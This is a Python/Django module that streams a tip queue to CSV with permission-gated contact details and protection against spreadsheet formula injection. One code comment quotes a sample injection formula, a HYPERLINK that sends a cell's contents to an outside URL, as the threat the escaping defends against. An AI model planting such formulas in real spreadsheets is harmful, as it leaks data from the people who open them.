"""The CSV export of the queue: one row per visible tip, with the tipster's contact details
only where the person exporting may see them (``permissions.may_see_contact``, the rule the
tip page uses), and every cell made safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Iterator
from concurrent.futures import Future, ThreadPoolExecutor
from dataclasses import dataclass
from typing import Any

from django.db import connection
from django.db.models.expressions import RawSQL

from reports.models import Routing
from reports.triage import permissions, queue

COLUMNS = [
    "reference",
    "received (hour)",
    "category",
    "school",
    "state",
    "priority",
    "life safety",
    "awaiting acknowledgement",
    "agencies' parts",
]
CONTACT_COLUMN = "contact details"
# A cell starting with one of these is a formula to Excel, LibreOffice or Google Sheets
# (OWASP, "CSV Injection"), full-width forms included: a tipster's "contact details" of
# =HYPERLINK("https://…?"&A1, "call me") would otherwise run on a staff member's machine.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
_FORMULA_FIRST = frozenset(FORMULA_START)  # each of them is one character


def spreadsheet_cell(value: object) -> str:
    """``value`` as text a spreadsheet shows as text: a leading ``'`` where it would
    otherwise start a formula (SECURITY.md 38). Leading spaces do not hide a formula.

    Called on every cell of every export, so it looks at one character, and at the first
    character after leading white space only when there is some: the same test as
    ``text.lstrip().startswith(FORMULA_START)``, since ``str.lstrip`` removes exactly the
    characters ``str.isspace`` accepts."""
    text = "" if value is None else str(value)
    first = text[:1]
    if first in _FORMULA_FIRST or (first.isspace() and text.lstrip()[:1] in _FORMULA_FIRST):
        return "'" + text
    return text


@dataclass(slots=True)
class Part:
    """What the contact rule (``permissions.RoutingFacts``) reads of one agency's part of a
    tip."""

    agency_id: int
    role: str
    acknowledged_at: object


def part(agency: str, role: str, state: str, disposition: str, assignee: str | None) -> str:
    """ "Clayton Police Department (responsible): done, unfounded, assigned to olsen". No
    disposition note or "referred to" text: those stay with the agency (and are free text)."""
    outcome = f", {disposition}" if disposition else ""
    assigned = f", assigned to {assignee}" if assignee else ""
    return f"{agency} ({role}): {state}{outcome}{assigned}"


# Each of them in ``reports_tip_visible_cover``, so that the walk reads that index alone
# (tests/dashboard/test_export_and_stats.py checks it on PostgreSQL).
TIP_COLUMNS = (
    "id",
    "received_at",
    "reference",
    "category__name",
    "school__name",
    "state",
    "priority",
    "is_life_safety",
    "awaiting_acknowledgement",
)
PART_COLUMNS = ("tip_id", "role", "agency__name", "state", "disposition", "assigned_to__username")
# Tips per chunk. With the writing overlapped, 4,000 was no faster than 2,000 under gunicorn
# (2.27-2.37 s against 2.36 s, p50 of six exports of an officer's 63k tips at a million)
# and its worker kept 6 MB more afterwards (bench/README.md).
CHUNK = 2000


def lines(user: Any, filters: queue.Filters, *, staff: permissions.Staff, with_contact: bool) -> Iterator[str]:
    """The file as CSV text: the header, then the lines of ``CHUNK`` tips at a time, newest
    first (by id: the order tips arrived in), of the tips ``queue.filtered`` gives this
    person. Each chunk is one query for the tips' columns (``values_list``: no model
    instances, no tip text but the contact details when asked for) and one for their
    agencies' parts, and is sent as one piece of whole lines, so memory stays flat however
    many tips there are and no cursor is held open while the file downloads.

    The queries and the writing overlap: while a thread of this export writes one chunk's
    lines, this one waits on PostgreSQL for the next chunk (psycopg2 lets other threads run
    while it waits). Each is about half of an export's time, so the export takes about the
    longer of the two instead of their sum (bench/README.md). The writer only formats values
    already read: every query stays on this thread and its connection (and transaction).

    Each chunk starts below the last id of the one before (keyset, ``below``), which
    PostgreSQL answers by walking the tips' covering index (``reports_tip_visible_cover``,
    which holds every tip column read here but the contact details) and the agency's
    routings backwards together from that id, without visiting the tips themselves: 10 ms a
    chunk of 2,000 for an officer at a million tips, against 25 through the tips (migration
    0017). (Keyed by received hour instead, each chunk probed every tip of the period for
    visibility: 175 ms a chunk. Reading each chunk's ids from the agency's routings and the
    tips by key instead was no faster: 2,000 probes of the tips' index touch as many pages
    as the walk.) Notes are not exported."""
    columns = TIP_COLUMNS + (("contact_details",) if with_contact else ())
    header = _text([COLUMNS + ([CONTACT_COLUMN] if with_contact else [])])
    with ThreadPoolExecutor(max_workers=1, thread_name_prefix="csv-export") as writer:
        written: Future[str] | None = None
        last_id: int | None = None
        while True:
            page = queue.filtered(user, filters, below=last_id).order_by("-id")
            chunk = list(page.values_list(*columns)[:CHUNK])
            parts = _parts_of([values[0] for values in chunk], with_facts=with_contact) if chunk else []
            if written is not None:
                yield written.result()  # the chunk before, written while these queries ran
                written = None
            if chunk:  # the header goes with the first chunk
                written = writer.submit(_chunk_text, header, chunk, parts, staff=staff, with_contact=with_contact)
                header = ""
            if len(chunk) < CHUNK:
                break
            last_id = chunk[-1][0]
        if written is not None:
            yield written.result()
        elif header:  # no tip at all
            yield header


def _text(rows: Iterable[list[str]]) -> str:
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return out.getvalue()


def _chunk_text(
    header: str,
    chunk: list[tuple[Any, ...]],
    parts: list[tuple[Any, ...]],
    *,
    staff: permissions.Staff,
    with_contact: bool,
) -> str:
    """One chunk's lines after ``header`` (on the export's writer thread: no query here)."""
    return header + _text(_rows(chunk, parts, staff=staff, with_contact=with_contact))


def _rows(
    chunk: list[tuple[Any, ...]], parts: list[tuple[Any, ...]], *, staff: permissions.Staff, with_contact: bool
) -> Iterator[list[str]]:
    """One chunk's rows, every cell through ``spreadsheet_cell``."""
    texts, facts = _parts_by_tip(parts, with_facts=with_contact)
    cell = spreadsheet_cell
    # Every text cell goes through ``spreadsheet_cell``, ours or not. The received hour, the
    # priority and the two flags are a datetime, a non-negative integer (the database refuses
    # a negative one) and booleans: their text starts with a digit, "T" or "F", never a
    # formula (test_the_typed_cells_cannot_start_a_formula).
    for tip_id, received_at, reference, category, school, state, priority, life_safety, awaiting, *contact in chunk:
        row = [
            cell(reference),
            received_at.isoformat(),
            cell(category),
            cell(school),
            cell(state),
            str(priority),
            str(life_safety),
            str(awaiting),
            cell(texts.get(tip_id, "")),
        ]
        if with_contact:
            row.append(cell(contact[0]) if permissions.may_see_contact(staff, facts.get(tip_id, ())) else "")
        yield row


def _parts_of(tip_ids: list[int], *, with_facts: bool) -> list[tuple[Any, ...]]:
    """Every agency's part of these tips, in one query, as plain values (no model
    instances), in the order the tip page lists them; with ``with_facts``, also what the
    contact rule reads of each part.

    The ids go as one array (``_ids``); running the chunk's own query again as a subquery
    instead cost PostgreSQL ~25 ms a chunk of 2,000."""
    columns = PART_COLUMNS + (("agency_id", "acknowledged_at") if with_facts else ())
    return list(Routing.objects.filter(tip_id__in=_ids(tip_ids)).order_by("role", "agency__name").values_list(*columns))


def _parts_by_tip(parts: list[tuple[Any, ...]], *, with_facts: bool) -> tuple[dict[int, str], dict[int, list[Part]]]:
    """The tip's id → its parts' cell, and (``with_facts``, for the contact rule) → what the
    rule reads of each part."""
    texts: dict[int, str] = {}
    facts: dict[int, list[Part]] = {}
    for tip_id, role, agency, state, disposition, assignee, *fact in parts:
        text = part(agency, role, state, disposition, assignee)
        texts[tip_id] = f"{texts[tip_id]}; {text}" if tip_id in texts else text
        if with_facts:
            facts.setdefault(tip_id, []).append(Part(fact[0], role, fact[1]))
    return texts, facts


def _ids(ids: list[int]) -> Any:
    """``ids`` for an ``__in`` lookup: on PostgreSQL one parameter, the array's text
    (``{1,2,3}``). Django prepares a list value by value (3 to 6 ms for 2,000 ids), and
    psycopg2 sends a list as ``ARRAY[1, 2, …]``, which costs 2.7 ms to write and PostgreSQL
    more to parse than the text: a chunk's parts query went from 21 to 16 ms."""
    if connection.vendor == "postgresql":
        text = "{" + ",".join(map(str, ids)) + "}"  # integers from the database
        return RawSQL("SELECT unnest(%s::bigint[])", (text,))  # noqa: S611 — one bound parameter
    return ids
